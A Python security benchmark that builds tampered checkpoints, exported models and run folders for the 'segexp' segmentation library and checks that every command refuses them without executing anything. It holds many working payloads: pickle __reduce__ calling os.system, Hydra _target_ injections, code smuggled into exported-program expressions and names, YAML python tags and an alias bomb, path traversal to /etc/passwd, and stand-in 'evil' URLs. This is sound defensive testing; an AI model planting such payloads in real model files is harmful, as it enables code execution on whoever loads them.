"""Files of a stranger, opened by every command: nothing in them may run, and each is refused in one sentence.

Each case is a copy of a good file or run with one change. Its payload would only touch a marker in a temporary folder; an audit
hook and a closed network see the rest: a file outside that is read or written, a server that is asked. The script prints a row
for each case and command, then counts, and exits with 1 if anything ran or a message is not one clear sentence.

    python benchmarks/hostile_files.py [WORDS OF SOME CASES]
"""

import contextlib
import io
import json
import os
import pickle
import shutil
import socket
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from importlib import import_module
from pathlib import Path
from typing import Any

import torch
import yaml

import segexp
from segexp.checkpoint.files import sidecar_path
from segexp.data.synthetic.datasets import make_demo
from segexp.deployment.metadata import write_sidecar
from segexp.errors import SegexpError

SMALL = ["data=liver", "data.size=64", "callbacks=none", "model=unet", "model.width=4", "model.depth=2", "trainer.gpus=0"]
SMALL += ["data.batch_size=2", "data.num_workers=0", "trainer.max_epochs=1"]


class Payload:
    """Unpickled, it touches the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


@dataclass
class Place:
    """Good files to change, and where payloads and audits leave their traces.

    Attributes:
        folder: of everything.
        run: a finished run; `exported` has its files net.pt2, net.pt and net.onnx.
        data: the pictures.
        marker: what each payload touches.
        bait: a file that nobody may open.
        traces: what the audit saw.
    """

    folder: Path
    traces: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.marker, self.bait = self.folder / "marker", self.folder / "elsewhere" / "bait"
        self.run, self.exported = self.folder / "run", self.folder / "exported"
        self.bait.parent.mkdir()
        self.bait.write_text("untouched")

    def prepare(self, formats: tuple[str, ...] = ("onnx", "torch_export", "torchscript")) -> None:
        """Train and export a network of seconds."""
        self.data = make_demo(self.folder / "data", "organ", count=10, size=64)
        with quiet():
            segexp.train(overrides=[*SMALL, f"data.root={self.data}", f"run_dir={self.run}"])
            for kind in formats:
                suffix = {"onnx": "onnx", "torch_export": "pt2", "torchscript": "pt"}[kind]
                segexp.export(self.run, self.exported / f"net.{suffix}", format=kind)

    def ran(self) -> list[str]:
        """Return what happened since the last call that must not happen."""
        found, self.traces[:] = list(self.traces), []
        if self.marker.exists():
            self.marker.unlink()
            found.append("the payload ran")
        outside = [path.name for path in self.bait.parent.iterdir() if path != self.bait]
        if outside or self.bait.read_text() != "untouched":
            found.append(f"written elsewhere: {outside}")
            shutil.rmtree(self.bait.parent)
            self.bait.parent.mkdir()
            self.bait.write_text("untouched")
        return found

    def watch(self) -> None:
        """Record connections, commands, and imports of `evil_*`, for the rest of the process."""

        def hook(event: str, arguments: tuple[Any, ...]) -> None:
            if event in ("socket.getaddrinfo", "socket.connect", "os.system", "subprocess.Popen", "os.exec"):
                self.traces.append(f"{event} {str(arguments)[:60]}")
            elif event == "import" and str(arguments[0]).startswith("evil_"):
                self.traces.append(f"import {arguments[0]}")

        sys.addaudithook(hook)

        def closed(*_: object, **__: object) -> Any:
            raise OSError("the network is closed")

        socket.getaddrinfo = closed


@contextlib.contextmanager
def quiet() -> Iterator[io.StringIO]:
    """Yield what is written to stderr; stdout is dropped."""
    said = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(said):
        yield said


# --- checkpoints -------------------------------------------------------------------------------------------------------------


def checkpoint(place: Place, path: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """Write the run's checkpoint with a change to its values."""
    values = torch.load(place.run / "checkpoints" / "best.ckpt", weights_only=True)
    change(values)
    torch.save(values, path)
    return path


def with_target(node: Any, *where: str) -> Callable[[Place, Path], Path]:
    """Return what writes a checkpoint with this in its configuration."""

    def write(place: Place, folder: Path) -> Path:
        text = (
            json.dumps(node)
            .replace("MARKER", str(place.marker))
            .replace("FOLDER", str(folder))
            .replace("BAIT", str(place.bait))
        )
        (folder / "evil_nets.py").write_text(f"open({str(place.marker)!r}, 'w')\n")
        torch.save(Payload(place.marker), folder / "evil.pt")
        (folder / "evil.npy").write_bytes(pickle.dumps(Payload(place.marker)))

        def change(values: dict[str, Any]) -> None:
            section = values["segexp"]["config"]
            for key in where[:-1]:
                section = section[key]
            section[where[-1]] = json.loads(text)

        return checkpoint(place, folder / "best.ckpt", change)

    return write


def raw_pickle(place: Place, folder: Path) -> Path:
    """Write a pickle under the name of a checkpoint."""
    (folder / "best.ckpt").write_bytes(pickle.dumps({"segexp": Payload(place.marker), "state_dict": {}}))
    return folder / "best.ckpt"


def torch_pickle(place: Place, folder: Path) -> Path:
    """Write a checkpoint with an object among its values."""
    return checkpoint(place, folder / "best.ckpt", lambda values: values.update(more=Payload(place.marker)))


def script_as_checkpoint(place: Place, folder: Path) -> Path:
    """Write TorchScript under the name of a checkpoint."""
    return script(WRITES)(place, folder).rename(folder / "best.ckpt")


UNET = {"_target_": "segexp.models.UNet", "in_channels": 1, "num_classes": 2, "width": 4, "depth": 2}
SYSTEM = {"_target_": "os.system", "command": "touch MARKER"}
SMP = {"_target_": "segmentation_models_pytorch.Unet", "in_channels": 1, "classes": 2}
CHECKPOINTS = {
    "pickle": raw_pickle,
    "pickle inside": torch_pickle,
    "TorchScript as .ckpt": script_as_checkpoint,
    "os.system": with_target(SYSTEM, "model"),
    "builtins.exec": with_target({"_target_": "builtins.exec", "_args_": ["open('MARKER', 'w')"]}, "model"),
    "subprocess in a list": with_target(
        UNET | {"norm": [{"_target_": "subprocess.run", "args": ["touch", "MARKER"]}]}, "model"
    ),
    "torch.load": with_target({"_target_": "torch.load", "f": "FOLDER/evil.pt", "weights_only": False}, "model"),
    "numpy.load": with_target({"_target_": "numpy.load", "file": "FOLDER/evil.npy", "allow_pickle": True}, "model"),
    "collect_env.run": with_target({"_target_": "torch.utils.collect_env.run", "command": "touch MARKER"}, "model"),
    "module of the current folder": with_target({"_target_": "evil_nets.Net"}, "model"),
    "hydra.utils.call": with_target({"_target_": "hydra.utils.call", "config": SYSTEM}, "model"),
    "hydra.utils.get_method": with_target({"_target_": "hydra.utils.get_method", "path": "os.system"}, "model"),
    "_partial_": with_target(UNET | {"norm": SYSTEM | {"_partial_": True}}, "model"),
    "_args_": with_target({"_target_": "torch.nn.Sequential", "_args_": [SYSTEM]}, "model"),
    "functools.partial": with_target({"_target_": "functools.partial", "_args_": [SYSTEM]}, "model"),
    "imported name": with_target({"_target_": "segexp.models.unet.torch.load", "f": "FOLDER/evil.pt"}, "model"),
    "function of segexp": with_target({"_target_": "segexp.models.pretrained.torch_file", "url": "http://evil/x.pt"}, "model"),
    "interpolation": with_target(UNET | {"norm": "${oc.env:HOME}"}, "model"),
    "encoder on a server": with_target(SMP | {"encoder_name": "tu-hf-hub:evil/net"}, "model"),
    "encoder that downloads": with_target({"_target_": "segmentation_models_pytorch.encoders.TimmUniversalEncoder"}, "model"),
    "weights inside": with_target(
        {"_target_": "torch.nn.Sequential", "_args_": [SMP | {"encoder_weights": "imagenet"}]}, "model"
    ),
    "number as target": with_target({"_target_": 7}, "model"),
}
MEASURES = {
    "measure os.system": with_target({"mine": SYSTEM}, "metrics"),
    "measure inside a measure": with_target(
        {"mine": {"_target_": "segexp.metrics.boundary.Boundary", "unit": SYSTEM}}, "metrics"
    ),
}


# --- exported files ----------------------------------------------------------------------------------------------------------


def with_sidecar(
    place: Place, file: Path, original: str, change: Callable[[dict[str, Any]], None] = lambda values: None
) -> Path:
    """Write the sidecar of a changed file, with digest and checksum as they must be."""
    values = json.loads(sidecar_path(place.exported / original).read_text())
    change(values)
    write_sidecar(file, values)
    return file


def rewrite(place: Place, file: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Copy an archive of torch with changed entries, by their names below its folder."""
    with zipfile.ZipFile(place.exported / file.name) as old:
        entries = {name.partition("/")[2]: old.read(name) for name in old.namelist()}
    change(entries)
    with zipfile.ZipFile(file, "w") as new:
        for name, content in entries.items():
            new.writestr(f"net/{name}", content)
    return with_sidecar(place, file, file.name)


def saved(value: Any) -> bytes:
    """Return what `torch.save` writes for an object."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def program(change: Callable[[dict[str, Any], dict[str, bytes], Place], None]) -> Callable[[Place, Path], Path]:
    """Return what writes a .pt2 whose description or entries are changed."""

    def write(place: Place, folder: Path) -> Path:
        def edit(entries: dict[str, bytes]) -> None:
            model = json.loads(entries["models/model.json"])
            change(model, entries, place)
            entries["models/model.json"] = json.dumps(model).encode()

        return rewrite(place, folder / "net.pt2", edit)

    return write


def payload(kind: str, name: str, content: Callable[[Any], bytes]) -> Callable[[Place, Path], Path]:
    """Return what writes a .pt2 with one more stored object."""

    def change(_: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
        config = f"data/{kind}/model_{kind}_config.json"
        values = json.loads(entries[config])
        values["config"]["more"] = {"path_name": name, "is_param": False, "use_pickle": True, "tensor_meta": None}
        entries[config], entries[f"data/{kind}/{name}"] = json.dumps(values).encode(), content(Payload(place.marker))

    return program(change)


def first_size(model: dict[str, Any]) -> dict[str, Any]:
    """Return the first size of a program, an expression."""
    return next(iter(model["graph_module"]["graph"]["sym_int_values"].values()))["as_expr"]  # type: ignore[no-any-return]


def expression(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Let a size be a command."""
    first_size(model)["expr_str"] = f"__import__('os').system('touch {place.marker}')"


def symbol(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Let a size be reached by attributes."""
    first_size(model)["expr_str"] = f"Symbol('s0').__class__.__init__.__globals__['os'].system('touch {place.marker}')"


def operation(target: str, *texts: str) -> Callable[[Place, Path], Path]:
    """Return what writes a .pt2 with another operation on these texts."""

    def change(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
        node = model["graph_module"]["graph"]["nodes"][-1]
        node["target"] = target
        node["inputs"] = [
            {"name": f"a{n}", "arg": {"as_string": text.replace("MARKER", str(place.marker))}, "kind": 1}
            for n, text in enumerate(texts)
        ]

    return program(change)


def argument_name(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Put code into the name of the argument."""
    signature = model["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"image=open({str(place.marker)!r}, 'w')"]


def tree_type(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Let the result be of a type that names a module."""
    signature = model["graph_module"]["module_call_graph"][0]["signature"]
    context = json.dumps({"default_factory_module": "evil_nets", "default_factory_name": "x", "dict_context": "[]"})
    spec = {"type": "collections.defaultdict", "context": context, "children_spec": []}
    signature["out_spec"] = json.dumps([1, spec])


def node_name(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Put code into the name of a value."""
    text = json.dumps(model).replace('"image"', json.dumps(f"image\n    open({str(place.marker)!r}, 'w')"))
    model.clear()
    model.update(json.loads(text))


def legacy_weights(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Add weights as older versions of torch stored them: pickled."""
    entries["data/weights/model.pt"] = saved(Payload(place.marker))


def example_inputs(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Replace the example inputs by an object."""
    entries["data/sample_inputs/model.pt"] = saved(Payload(place.marker))


def compiled(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Add a compiled library."""
    entries["data/aotinductor/model/lib.so"] = b"\x7fELF"


def guards(model: dict[str, Any], entries: dict[str, bytes], place: Place) -> None:
    """Let a guard be code."""
    model["guards_code"] = [f"open({str(place.marker)!r}, 'w')"]


def old_program(place: Place, folder: Path) -> Path:
    """Write a program as torch 2.7 did, where everything is pickled."""
    with zipfile.ZipFile(folder / "net.pt2", "w") as archive:
        archive.writestr("version", "8.20")
        for name in ("serialized_exported_program.json", "serialized_state_dict.json", "serialized_constants.json"):
            archive.writestr(name, saved(Payload(place.marker)))
    return with_sidecar(place, folder / "net.pt2", "net.pt2")


def pickle_as(name: str) -> Callable[[Place, Path], Path]:
    """Return what writes a pickle under the name of an exported file."""

    def write(place: Place, folder: Path) -> Path:
        (folder / name).write_bytes(saved(Payload(place.marker)))
        return with_sidecar(place, folder / name, name)

    return write


PROGRAMS = {
    "pickled weight": payload("weights", "weight_999", saved),
    "pickled constant": payload("constants", "tensor_999", saved),
    "pickled object": payload("constants", "opaque_obj_0", pickle.dumps),
    "TorchScript object": payload("constants", "custom_obj_0", pickle.dumps),
    "pickled example": program(example_inputs),
    "weights of an old form": program(legacy_weights),
    "compiled library": program(compiled),
    "old archive": old_program,
    "pickle as .pt2": pickle_as("net.pt2"),
    "expression": program(expression),
    "expression with attributes": program(symbol),
    "name of an argument": program(argument_name),
    "name of a value": program(node_name),
    "type of the result": program(tree_type),
    "operation torch.load": operation("torch.load", "MARKER"),
    "operation collect_env.run": operation("torch.utils.collect_env.run", "touch MARKER"),
    "operation from_file": operation("torch.ops.aten.from_file.default", "MARKER"),
    "operation save": operation("torch.ops.aten.save.default", "MARKER"),
    "operation of a library": operation("torch.ops.higher_order.triton_kernel_wrapper_mutation", "MARKER"),
}
HARMLESS = {"guards as code": program(guards)}
"""Files that load, without what they bring."""

WRITES = "torch.from_file('MARKER', True, 1)"


def script(line: str, method: str = "forward", pickled: bool = False) -> Callable[[Place, Path], Path]:
    """Return what writes a TorchScript file with a line of code at the start of its network."""

    def write(place: Place, folder: Path) -> Path:
        def edit(entries: dict[str, bytes]) -> None:
            name = next(name for name, content in entries.items() if b"    network = self.network" in content)
            code = entries[name].decode().replace("    network = self.network", f"    {line}\n    network = self.network", 1)
            if method != "forward":
                network = name.removeprefix("code/").removesuffix(".py").replace("/", ".") + ".NetworkModule"
                code += f"  def {method}(self: {network}, image: Tensor) -> None:\n    {line}\n"
            entries[name] = code.replace("MARKER", str(place.marker)).encode()
            if pickled:
                entries["constants.pkl"] = pickle.dumps(Payload(place.marker), 2)

        return rewrite(place, folder / "net.pt", edit)

    return write


SCRIPTS = {
    "from_file": script(WRITES),
    "torch.save": script("torch.save([image], 'MARKER')"),
    "ops.aten": script("x = ops.aten.from_file('MARKER', True, 1)"),
    "operation of a library": script("x = ops.profiler._record_function_enter_new('x', None)"),
    "class of C++": script("x = __torch__.torch.classes.dist_c10d.FileStore.__init__('MARKER', 1)"),
    "method of a tensor": script("image.save('MARKER')"),
    "__setstate__": script("pass", "__setstate__"),
    "pickled constant": script("pass", pickled=True),
    "pickle as .pt": pickle_as("net.pt"),
}


def onnx_outside(location: str) -> Callable[[Place, Path], Path]:
    """Return what writes an ONNX file whose first tensor lies in another file."""

    def write(place: Place, folder: Path) -> Path:
        import onnx

        model = onnx.load(place.exported / "net.onnx")
        tensor = model.graph.initializer[0]
        count = len(tensor.raw_data)
        tensor.ClearField("raw_data")
        tensor.data_location = onnx.TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", str(count))):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        (folder / "net.onnx").write_bytes(model.SerializeToString())
        return with_sidecar(place, folder / "net.onnx", "net.onnx")

    return write


def onnx_sidecar(change: Callable[[dict[str, Any]], None]) -> Callable[[Place, Path], Path]:
    """Return what writes a good ONNX file with a changed sidecar."""

    def write(place: Place, folder: Path) -> Path:
        shutil.copy(place.exported / "net.onnx", folder)
        return with_sidecar(place, folder / "net.onnx", "net.onnx", change)

    return write


def sidecar_text(text: str) -> Callable[[Place, Path], Path]:
    """Return what writes a good ONNX file with this as its sidecar."""

    def write(place: Place, folder: Path) -> Path:
        shutil.copy(place.exported / "net.onnx", folder)
        (folder / "net.onnx.json").write_text(text)
        return folder / "net.onnx"

    return write


SIDECARS = {
    "data in another folder": onnx_outside("../../elsewhere/bait"),
    "data in /etc/passwd": onnx_outside("/etc/passwd"),
    "pickle as .onnx": pickle_as("net.onnx"),
    "huge sidecar": sidecar_text('{"what": "' + "x" * (5 << 20) + '"}'),
    "deep sidecar": sidecar_text("[" * 100000),
    "list as format": onnx_sidecar(lambda values: values.update(format=["onnx"])),
    "format of a pickle": onnx_sidecar(lambda values: values.update(format="torch_export")),
    "number as class": onnx_sidecar(lambda values: values["spec"].update(classes=[1, {"a": 2}])),
    "text as mean": onnx_sidecar(lambda values: values["preprocessing"].update(mean="__import__('os')")),
    "target in the configuration": onnx_sidecar(lambda values: values["config"].update(model=7)),
}


# --- runs --------------------------------------------------------------------------------------------------------------------


def run_with(*words: str, change: Callable[[Place, Path], None] | None = None) -> Callable[[Place, Path], Path]:
    """Return what copies the run with more overrides, and a change to its folder."""

    def write(place: Place, folder: Path) -> Path:
        run = folder / "run"
        shutil.copytree(place.run, run)
        (folder / "evil_nets.py").write_text(f"open({str(place.marker)!r}, 'w')\n")
        torch.save(Payload(place.marker), folder / "evil.pt")
        file = run / ".hydra" / "overrides.yaml"
        more = [word.replace("MARKER", str(place.marker)).replace("FOLDER", str(folder)) for word in words]
        file.write_text(yaml.safe_dump([*yaml.safe_load(file.read_text()), *more]))
        if change:
            change(place, run)
        return run

    return write


def saved_file(name: str, text: str) -> Callable[[Place, Path], None]:
    """Return what replaces a file of the run's settings."""

    def change(place: Place, run: Path) -> None:
        (run / ".hydra" / name).write_text(text.replace("MARKER", str(place.marker)))

    return change


def linked(name: str) -> Callable[[Place, Path], None]:
    """Return what puts a link out of the run in place of a file."""

    def change(place: Place, run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(place.bait)

    return change


def linked_folder(place: Place, run: Path) -> None:
    """Put a link out of the run in place of a folder."""
    shutil.rmtree(run / "csv")
    (run / "csv").symlink_to(place.bait.parent)


def own_options(option: str, text: str) -> Callable[[Place, Path], None]:
    """Return what gives the run a configuration folder with an option."""

    def change(place: Place, run: Path) -> None:
        file = run / "conf" / f"{option}.yaml"
        file.parent.mkdir(parents=True)
        file.write_text(text.replace("MARKER", str(place.marker)))
        hydra = run / ".hydra" / "hydra.yaml"
        values = yaml.safe_load(hydra.read_text())
        source = {"path": str(run / "conf"), "schema": "file", "provider": "command-line"}
        values["hydra"]["runtime"]["config_sources"].append(source)
        hydra.write_text(yaml.safe_dump(values))

    return change


BOMB = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
CALLBACK = "# @package hydra.callbacks\nmine: {_target_: os.system, command: 'touch MARKER'}\n"
TAG = "!!python/object/apply:os.system ['touch MARKER']\n"
RUNS = {
    "torch.load as loss": run_with("loss._target_=torch.load", "+loss.f=FOLDER/evil.pt", "+loss.weights_only=false"),
    "numpy.load as optimizer": run_with("optimizer._target_=numpy.load", "+optimizer.allow_pickle=true"),
    "collect_env.run as schedule": run_with(
        "scheduler._target_=torch.utils.collect_env.run", "'+scheduler.command=touch MARKER'"[1:-1]
    ),
    "module of the current folder": run_with("model._target_=evil_nets.Net"),
    "os.system inside": run_with("+model.norm2={_target_: os.system, command: touch MARKER}"),
    "os.system in a list": run_with("+loss.terms2=[{_target_: os.system, command: touch MARKER}]"),
    "os.system as measure": run_with("+metrics.mine={_target_: os.system, command: touch MARKER}"),
    "hydra.utils.call": run_with("++mix={_target_: hydra.utils.call}"),
    "_partial_ of os.system": run_with("+optimizer.hook={_target_: os.system, _partial_: true}"),
    "callback": run_with("+callbacks.mine={_target_: os.system, command: touch MARKER}"),
    "logger": run_with("+logger.mine={_target_: os.system, command: touch MARKER}"),
    "address of a logger": run_with("++logger.mlflow={tracking_uri: 'http://evil'}"),
    "augmentation": run_with("augment.transforms=[{name: evil_nets.Net}]"),
    "callback of Hydra": run_with("+hydra.callbacks.mine={_target_: os.system, command: touch MARKER}"),
    "log of Hydra": run_with("hydra/job_logging=none"),
    "search path of Hydra": run_with("hydra.searchpath=[pkg://evil_nets]"),
    "several values": run_with("seed=1,2"),
    "environment": run_with("data.root=${oc.env:HOME}"),
    "resolver that creates": run_with("model.width='${oc.create:{_target_: os.system}}'"),
    "option that sets Hydra": run_with("+evil=cb", change=own_options("evil/cb", CALLBACK)),
    "option with os.system": run_with(
        "loss=mine", change=own_options("loss/mine", "_target_: os.system\ncommand: touch MARKER\n")
    ),
    "what to trust": run_with(
        "distill=mine", change=own_options("distill/mine", "defaults: [_base, _self_]\nteacher: x\ntrust: [evil_nets]\n")
    ),
    "tag in overrides.yaml": run_with(change=saved_file("overrides.yaml", TAG)),
    "tag in hydra.yaml": run_with(change=saved_file("hydra.yaml", TAG)),
    "bomb in config.yaml": run_with(change=saved_file("config.yaml", BOMB)),
    "huge overrides.yaml": run_with(change=saved_file("overrides.yaml", "- seed=1\n" * 300000)),
    "list as hydra.yaml": run_with(change=saved_file("hydra.yaml", "[1, 2]\n")),
    "link in place of the log": run_with(change=linked("train.log")),
    "link in place of settings": run_with(change=linked(".hydra/more.yaml")),
    "link in place of a folder": run_with(change=linked_folder),
}


def study_with_link(place: Place, folder: Path) -> Path:
    """A study whose second run is a link to a run elsewhere."""
    shutil.copytree(place.run, folder / "study" / "0")
    other = place.bait.parent / "run"
    shutil.copytree(place.run, other)
    (other / "report.html").unlink()
    (folder / "study" / "1").symlink_to(other)
    return folder / "study"


def class_as_path(values: dict[str, Any]) -> None:
    """Name a class so that a file with its name would lie elsewhere."""
    values["segexp"]["spec"] |= {"classes": ["background", "../../../elsewhere/class"], "overlapping": True}


SECRET = "s3cr3t-of-this-machine"
SCRIPT = "<script>alert(1)</script>"


def shown(place: Place, run: Path) -> None:
    """Put an interpolation and markup where a report shows settings, cases and classes."""
    for name in ("overrides.yaml", "config.yaml"):
        (run / ".hydra" / name).write_text((run / ".hydra" / name).read_text().replace("width: 4", "width: ${oc.env:SECRET}"))
    config = yaml.safe_load((run / ".hydra" / "config.yaml").read_text())
    config["tags"] = ["${oc.env:SECRET}", "${segexp.first:${oc.env:SECRET}}", "${oc.decode:${oc.env:SECRET}}", SCRIPT]
    (run / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
    (run / "run.json").unlink()
    shutil.rmtree(run / "checkpoints")
    rows = (run / "cases.csv").read_text().replace("liver", SCRIPT.replace(",", ""))
    (run / "cases.csv").write_text(rows)


# --- commands ----------------------------------------------------------------------------------------------------------------


@dataclass
class Result:
    """What a command did with a case: what ran, and whether it was said in one sentence."""

    case: str
    command: str
    ran: list[str]
    said: str
    clear: bool


def typed(verb: str, words: list[str]) -> tuple[int, str]:
    """Type a command in this process; return its exit code and what it wrote to stderr."""
    with quiet() as said:
        code = import_module(f"segexp.cli.{verb}").main(words)
    return code, said.getvalue()


def loaded(path: Path) -> tuple[int, str]:
    """Call `segexp.load`; return as `typed` does."""
    try:
        with quiet():
            segexp.load(path)
    except SegexpError as error:
        return error.exit_code, f"segexp: {error}\n"
    except Exception as error:
        return 1, f"unexpected {type(error).__name__}: {error}\n"
    return 0, ""


def commands(kind: str, path: Path, place: Place, folder: Path) -> dict[str, Callable[[], tuple[int, str]]]:
    """Return the commands that open a kind of file."""
    picture = next(place.data.rglob("*.png"))
    predict = [f"checkpoint={path}", f"input={picture}", f"output={folder / 'masks'}", "gpus=0", "check=false"]
    found = {
        "predict": lambda: typed("predict", predict),
        "evaluate": lambda: typed("evaluate", [f"checkpoint={path}", f"output={folder / 'scores'}", "gpus=0"]),
        "load": lambda: loaded(path),
        "export": lambda: typed("export", [f"checkpoint={path}", f"output={folder / 'new.onnx'}"]),
        "resume": lambda: typed("train", [f"resume={path}", "trainer.max_epochs=2"]),
        "report": lambda: typed("report", [str(path)]),
        "compare": lambda: typed("compare", [str(path), str(place.run), "allow_different_data=true"]),
    }
    lists = "trust=[os,builtins,subprocess,torch,numpy,hydra,functools,segexp,segmentation_models_pytorch]"
    found |= {
        "trusted": lambda: typed("predict", [*predict, "trust=true"]),
        "listed": lambda: typed("predict", [*predict, lists]),
    }
    names = {
        "checkpoint": "predict load export trusted listed",
        "measure": "evaluate",
        "exported": "predict evaluate load",
        "run": "resume report compare",
    }
    if kind == "checkpoint" and (folder / "evil_nets.py").is_file() and "evil_nets" in str(best_target(path)):
        return {name: found[name] for name in ("predict", "load", "export")}  # with trust it runs, as it should
    return {name: found[name] for name in names.get(kind, kind).split()}


def best_target(path: Path) -> object:
    """Return the class that a checkpoint names as its network."""
    with contextlib.suppress(Exception), quiet():
        return torch.load(path, weights_only=True)["segexp"]["config"]["model"].get("_target_")
    return None


def is_clear(code: int, said: str) -> bool:
    """Return whether a refusal is one paragraph of segexp's own."""
    lines = [line for line in said.splitlines() if line.strip()]
    own = [line for line in lines if line.startswith("segexp: ")]
    return code in (1, 2) and len(own) == 1 and "Traceback" not in said and "unexpected" not in said and len(said) < 1500


def examine(place: Place, words: list[str]) -> Iterator[Result]:
    """Yield the outcome of each case that has one of the words in its name."""
    groups = {
        "checkpoint": CHECKPOINTS,
        "measure": MEASURES,
        "exported": {f"{kind} {name}": write for kind, cases in EXPORTED.items() for name, write in cases.items()},
        "run": RUNS,
    }
    for kind, cases in groups.items():
        for name, write in cases.items():
            case = f"{kind}: {name}"
            if not words or any(word in case for word in words):
                yield from refused(place, kind, case, write)


EXPORTED = {".pt2": PROGRAMS, ".pt": SCRIPTS, ".onnx": SIDECARS}


def refused(place: Place, kind: str, case: str, write: Callable[[Place, Path], Path]) -> Iterator[Result]:
    """Yield the outcome of each command on a file that must be refused."""
    folder = Path(tempfile.mkdtemp(dir=place.folder))
    path = write(place, folder)
    before = Path.cwd()
    os.chdir(folder)  # where a module of the stranger lies, too
    sys.path.insert(0, str(folder))
    try:
        for command, run in commands(kind, path, place, folder).items():
            place.ran()
            code, said = run()
            shown = code == 0 and command in ("report", "compare")
            yield Result(case, command, place.ran(), said, shown or is_clear(code, said))
    finally:
        os.chdir(before)
        sys.path.remove(str(folder))
        shutil.rmtree(folder)


def shown_cases(place: Place) -> Iterator[Result]:
    """Yield the outcome of files that open, without what they bring."""
    os.environ["SECRET"] = SECRET
    folder = Path(tempfile.mkdtemp(dir=place.folder))
    for name, write in HARMLESS.items():
        place.ran()
        code, said = commands("exported", write(place, folder), place, folder)["load"]()
        yield Result(f"harmless: {name}", "load", place.ran(), said, code == 0)
    run = run_with(change=shown)(place, folder)
    for command in ("report", "compare"):
        place.ran()
        code, said = commands(command, run, place, folder)[command]()
        page = (run / "report.html").read_text()
        leaks = [text for text in (SECRET, SCRIPT) if text in page]
        yield Result("harmless: markup and environment in a report", command, place.ran() + leaks, said, code in (0, 1, 2))
    path = checkpoint(place, folder / "named.ckpt", class_as_path)
    code, said = commands("checkpoint", path, place, folder)["predict"]()
    wrote = [
        str(file)
        for file in folder.parent.rglob("*elsewhere*")
        if file != place.bait.parent and folder / "masks" not in file.parents
    ]
    yield Result("harmless: a class named like a path", "predict", place.ran() + wrote, said, code == 0)
    study = study_with_link(place, folder)
    place.traces.clear()
    typed("report", [str(study)])
    written = [f"{file.name} in {file.parent}" for file in place.bait.parent.rglob("report.html")]
    shutil.rmtree(place.bait.parent / "run")
    yield Result("harmless: a study with a link", "report", place.ran() + written, "", (study / "report.html").is_file())


def main(words: list[str]) -> int:
    """Print a row for each case and command and the counts; return 1 on a miss."""
    with tempfile.TemporaryDirectory() as folder:
        place = Place(Path(folder).resolve())
        place.prepare()
        place.watch()
        found = []
        for result in (*examine(place, words), *(() if words else shown_cases(place))):
            found.append(result)
            mark = "RAN" if result.ran else "ok" if result.clear else "UNCLEAR"
            sys.stdout.write(
                f"{mark:8}{result.command:9}{result.case}  {'; '.join(result.ran)}\n        {result.said.strip()[:400]}\n"
            )
    ran, unclear = [r for r in found if r.ran], [r for r in found if not r.clear]
    cases = {result.case for result in found}
    sys.stdout.write(
        f"{len(cases)} cases, {len(found)} commands: {len(ran)} ran something, {len(unclear)} not in one sentence\n"
    )
    return 1 if ran or unclear else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
